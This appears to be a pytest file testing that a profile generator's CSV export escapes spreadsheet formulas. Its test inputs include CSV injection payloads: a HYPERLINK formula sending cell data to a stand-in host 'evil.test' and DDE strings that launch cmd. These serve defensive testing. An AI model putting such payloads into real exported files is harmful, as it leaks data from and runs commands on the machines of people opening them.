"""A formula never runs in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from profilegen.app.build import Plan, build
from profilegen.output.csv_cells import csv_cell

RISKY = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "+1+1",
    "-1+cmd|' /C calc'!A0", "-2+3", "-5 to -3", "=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "-", "=", "--1", "-1-",
]  # fmt: skip


@pytest.mark.parametrize("text", RISKY)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + " ".join(text.split())


@pytest.mark.parametrize("text", ["5", "-5.2", "-1,406", "0.71", "2020", "-0"])
def test_numbers_stay_numbers(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["", "\u22125.2", "'=1+1", "a = b", "e-commerce", "x@y", "a; b"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


def test_no_line_tab_or_second_cell_hides_a_formula() -> None:
    assert csv_cell("a\tb\r\n=c") == "a b =c"
    assert csv_cell("a;=1+1") == "a;'=1+1"


def test_words_behind_a_semicolon_stay_as_they_are() -> None:
    for text in ("a; -5 per cent", "a; + b", "a;b", "see x; @y", "1; -2; -3"):
        assert csv_cell(text) == text


PROFILE = """economy: JPN
status: draft
updated: 18 July 2025
industrial_strategy:
  text: Hello. [@s]
  programmes:
    list:
      - title: '=HYPERLINK("https://evil.test/?"&A1,"click")'
        source: s
        projects: 5
        recipients:
          - {name: "@SUM(1+1)*cmd|' /C calc'!A0", amount: JPY 5 billion}
          - {name: "-2+3+cmd|' /C calc'!A0", amount: JPY -6 billion}
  observations:
    source: s
    list:
      - {indicator: manufacturing-growth, scope: "=1+1", period: 2024, value: -0.5, note: "+1+1"}
      - {indicator: chip-support-rate, scope: "\\t=1", period: 2023, value: 0.5, note: "a;=b"}
  tables:
    t:
      caption: "=2+2"
      unit: "@x"
      head: [a, b]
      rows: [["+3+4", -5]]
      source: s
sources: {s: {type: report, title: T, author: A, issued: 2020}}
"""


def test_the_file_of_a_build_runs_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "profiles"
    folder.mkdir()
    (folder / "JPN.yaml").write_text(PROFILE)
    result = build(Plan(folder, tmp_path / "out", only=("html",)), lambda line: None)
    assert [d for d in result.diagnostics if d.severity == "error"] == []
    raw = (tmp_path / "out" / "data" / "observations.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [row["low"] for row in rows][:2] == ["-0.5", "0.5"]
    assert {row["low"] for row in rows} >= {"-6000000000", "5", "-5"}
    for row in rows:
        for text in row.values():
            assert re.fullmatch(r"-?[\d,]+(\.\d+)?|[^=+\-@\t\r\n][^\t\r\n]*|", text), text
    assert {row["indicator"] for row in rows} >= {"'=2+2: b"}
